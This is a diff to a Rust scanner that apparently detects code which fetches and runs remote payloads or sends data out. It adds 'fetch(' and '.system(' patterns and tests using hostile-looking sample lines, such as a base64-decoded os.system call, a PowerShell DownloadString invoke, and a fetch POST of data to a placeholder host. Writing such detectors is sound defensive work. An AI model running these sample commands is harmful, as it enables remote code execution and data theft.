@@ -32,6 +32,7 @@ const RUNS: &[&[u8]] = &[
     b"subprocess.call(",
     b"check_output(",
     b"os.system(",
+    b".system(",
     b"os.popen(",
     b"execSync(",
 ];
@@ -96,12 +97,13 @@ const PICKLES: &[&[u8]] = &[
 
 /// Everything that is looked for in texts, found in one go: what runs, what goes into a shell, and two words more.
 static WORDS: LazyLock<AhoCorasick> = LazyLock::new(|| {
-    let words = RUNS.iter().copied().chain(SOURCES.iter().map(|(word, _)| *word)).chain([MODULE, NAME]);
+    let words = RUNS.iter().copied().chain(SOURCES.iter().map(|(word, _)| *word)).chain([MODULE, NAME, SEND]);
     #[expect(clippy::expect_used, reason = "a fixed list")]
     AhoCorasick::new(words).expect("the table is small")
 });
 const MODULE: &[u8] = b"new module.constructor";
 const NAME: &[u8] = b"_0x";
+const SEND: &[u8] = b"fetch(";
 
 /// Tells whether bytes begin as a pickle does: with its protocol, or as protocol 0 writes calls and collections.
 pub(super) fn may_be_pickle(start: &[u8]) -> bool {
@@ -143,6 +145,10 @@ pub(super) fn read(bytes: &[u8], found: &mut BTreeSet<String>) {
         } else if number == RUNS.len() + SOURCES.len() {
             if holds(bytes, DECODES) {
                 add("decode-and-run/module");
+            }
+        } else if number == RUNS.len() + SOURCES.len() + 2 {
+            if holds(argument(bytes, hit.end()), &[b"POST", b"post"]) {
+                add("sends/script");
             }
         } else if bytes.get(at + 3..at + 7).is_some_and(|digits| digits.iter().all(u8::is_ascii_hexdigit)) {
             names += 1;
@@ -224,6 +230,9 @@ mod tests {
         check(b"medieval(atob(x))", &[]);
         let fetched: &[&str] = &["fetch-and-run/nested"];
         check(b"exec(r.urlopen('http://x.invalid/').read())", fetched);
+        check(b"__import__('os').system(base64.b64decode(x).decode())", &["decode-and-run/nested"]);
+        check(b"fetch('https://x.invalid', { method: 'POST', body: t })", &["sends/script"]);
+        check(b"fetch('https://x.invalid').then(read)", &[]);
         check(b"iex (New-Object Net.WebClient).DownloadString('http://x.invalid/')\n", fetched);
         check(b"eval(URI.open('http://x.invalid').read)", fetched);
         check(b"subprocess.Popen(['sh', '-c', urlopen('http://x.invalid/').read()])", fetched);
